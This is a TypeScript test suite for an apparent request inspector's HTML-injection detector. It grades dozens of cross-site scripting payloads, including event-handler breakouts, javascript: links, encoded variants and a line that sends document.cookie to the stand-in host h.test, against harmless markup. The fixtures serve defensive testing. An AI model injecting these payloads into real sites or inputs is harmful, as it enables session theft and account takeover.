import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { familyFindings } from '../../fixtures/family-findings.ts';
import { inspectRequest } from '../../inspect-request.ts';
import type { InspectedValue } from '../../inspected-request.ts';

const signsIn = (text: string, value?: Partial<InspectedValue>) =>
  familyFindings(['html'], text, value);
const strongest = (text: string, value?: Partial<InspectedValue>): string =>
  ['clear', 'likely', 'weak'].find((strength) =>
    signsIn(text, value).some((finding) => finding.startsWith(strength)),
  ) ?? 'none';

const inProse = (markup: string): string =>
  `I have been trying this for a day now and do not see what is wrong with ${markup} in my page.`;
const richText = (markup: string): string =>
  `<h2>News</h2><p>This is <b>the</b> news of the week, with all there is to know.</p>${markup}<p>Bye</p>`;
const page = (head: string): string =>
  `<html><head><title>Order</title>${head}</head><body>${'<p>Your order is on its way.</p>'.repeat(12)}</body></html>`;

describe('HTML in a value', () => {
  for (const [expected, text] of [
    ['clear', '<script>alert(1)</script>'],
    ['clear', 'hi <script src=//h.test'],
    ['clear', '<script\n/x>/**/run()</script\t>'],
    ['likely', '<script>probe</script>'],
    ['weak', 'put it between <script> and </script>'],
    ['weak', inProse('a <script> tag')],
    ['weak', inProse('`<script>alert(1)</script>`')],
    ['weak', inProse('\n```html\n<svg onload=alert(1)>\n```\n')],
    ['clear', inProse('<svg onload=alert(document.cookie)>')],
    ['none', '<script type="application/json">{"a":1}</script>'],
    ['likely', richText('<script async src="https://embed.test/post.js"></script>')],
    ['clear', richText('<script>new Image().src="//h.test/"+document.cookie</script>')],
    ['clear', richText('<img src=x onerror=alert(1)>')],
    ['weak', richText('<a href="/x" onclick="menu.open(this); return false">x</a>')],
    ['weak', richText('<iframe src="https://video.test/embed/1"></iframe>')],
    ['likely', '<iframe src=https://h.test>'],
    ['weak', '<iframe width="560" height="315" src="https://video.test/embed/1"></iframe>'],
    ['none', '<!-- wp:paragraph --><p>Text</p><!-- /wp:paragraph -->'],
    ['likely', '<button onclick="return confirm(\'Delete?\')">x</button>'],
    ['weak', '<button onClick={() => setCount(count + 1)}>x</button>'],
    ['clear', 'x" onmouseover=alert(1) y="'],
    ['clear', " ' autofocus/onfocus='alert(1)"],
    ['clear', ' ondrop=eval(name)>'],
    ['likely', 'x onmouseover=alert(1)'],
    ['none', '"quoted" text with onclick="x" in it'],
    ['none', 'class="button" onclick="menu()"'],
    ['clear', '<img """><script>alert(1)</script>">'],
    ['clear', '<img src=x\f/\x00onerror\x0b=\x01alert(1)>'],
    ['clear', '<svg><script>&#97;lert(1)'],
    ['clear', '<a href=" \x01java\nscript:alert(1)">x</a>'],
    ['clear', '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">'],
    ['clear', '<object data="data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['none', '<img src="data:image/svg+xml;base64,PHN2Zy8+">'],
    ['none', 'data:image/svg+xml;base64,PHN2Zy8+'],
    ['likely', '<p title="</title><svg onload=alert(1)>">'],
    ['clear', '<style></style\n<img src=x onerror=alert(1)>'],
    ['clear', '<b <img src=x onerror=alert(1)>'],
    ['clear', '<base href="//h.test/">'],
    ['weak', page('<base target="_blank"><style>v\\:*{behavior:url(#default#VML)}</style>')],
    ['none', page('<link rel="stylesheet" href="https://fonts.test/a.css"><meta charset="utf-8">')],
    [
      'none',
      '<feed xmlns="http://www.w3.org/2005/Atom"><link rel="self" href="https://a.test/"/></feed>',
    ],
    ['clear', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['none', 'if (a<b && c>d) return'],
    ['none', 'Map<String, List<Integer>> and Ann <ann@a.test>, <https://a.test/?on=1>'],
    ['clear', '[x](javascript:alert(1))'],
  ] as const) {
    it(`is ${expected}: ${JSON.stringify(text).slice(0, 60)}`, () =>
      assert.equal(strongest(text), expected));
  }

  it('is weak in uploaded pages and at most likely in uploaded images', () => {
    const text = '<svg onload=alert(1)>';
    assert.equal(strongest(text, { place: 'file', fileName: 'a.html' }), 'weak');
    assert.equal(strongest(text, { place: 'file', fileName: 'a.svg' }), 'likely');
    assert.equal(strongest(text, { place: 'file', isName: true }), 'clear');
  });

  it('is weak when it is written with references in a text', () => {
    assert.equal(strongest(inProse('&lt;script&gt;alert(1)&lt;/script&gt;')), 'weak');
    assert.equal(strongest('&lt;script&gt;alert(1)&lt;/script&gt;'), 'likely');
  });

  it('shows several signs in a typical attack', () => {
    assert.deepEqual(signsIn('"></title><svg/onload=alert(1)>').sort(), [
      'clear html-attribute-breakout',
      'clear html-element-breakout',
      'clear html-event-handler',
      'likely html-disguise',
    ]);
  });
});

describe('an event handler', () => {
  const name = fc.constantFrom('img', 'svg', 'x-y', 'video');
  const gap = fc.constantFrom(' ', '/', '\n', '\t', '\f', ' x ', ' a=1 ', " b='>' ");
  const call = fc.constantFrom('alert(1)', 'prompt`1`', "top['al'+'ert'](1)", '&#97;lert(1)');
  const quote = fc.constantFrom('"', "'");

  it('stays found in any element, between any attributes and in any encoding', () => {
    fc.assert(
      fc.property(name, gap, call, quote, fc.nat(2), (element, space, code, mark, times) => {
        const value = code.includes(mark)
          ? `${mark === '"' ? "'" : '"'}${code}`
          : mark + code + mark;
        let text = `<${element}${space}oNbEgIn ${'='} ${value}>`;
        for (let round = 0; round < times; round += 1) text = encodeURIComponent(text);
        assert.ok(signsIn(text).includes('clear html-event-handler'), text);
      }),
    );
  });

  it('stays found behind what the value would stand in', () => {
    const before = fc.constantFrom(
      '">',
      "'>",
      '</script>',
      '-->',
      '</textarea>',
      ']]>',
      '/>',
      '<<',
    );
    fc.assert(
      fc.property(before, name, call, (start, element, code) => {
        const text = `${start}<${element} onload=${code}>`;
        assert.equal(strongest(text), 'clear', text);
      }),
    );
  });
});

describe('harmless markup', () => {
  it('stays harmless in any order', () => {
    const piece = fc.constantFrom(
      '<p>',
      '</p>',
      '<b class="on">',
      '</b>',
      '<br/>',
      'a < b',
      '"',
      ' on ',
      '5" x 7"',
      '>',
      "it's",
      '<img src="https://a.test/a.png" alt="x">',
      '<a href="/on?style=1">',
      '<!-- more -->',
      'x=1',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        assert.ok(!['clear', 'likely'].includes(strongest(pieces.join(' '))), pieces.join(' '));
      }),
    );
  });

  it('costs a bounded number of steps on any text', () => {
    for (const piece of [
      '<',
      '<a ',
      '"',
      '<!--',
      '<script>',
      '<style>',
      '<a b="<a b=\'',
      '</p',
      ' onx=',
      '](',
      '<a b="javascript:',
      '<![CDATA[',
      '<x y=`',
      '&#',
      '<title></title>',
    ]) {
      const text = piece.repeat(20_000 / piece.length);
      const value = { place: 'query', name: 'q', text, encoding: 'none' } as const;
      const request = { method: 'GET', version: 'HTTP/1.1', values: [value], gaps: [] };
      assert.ok(inspectRequest(request).steps < 40 * text.length, piece);
    }
  });
});
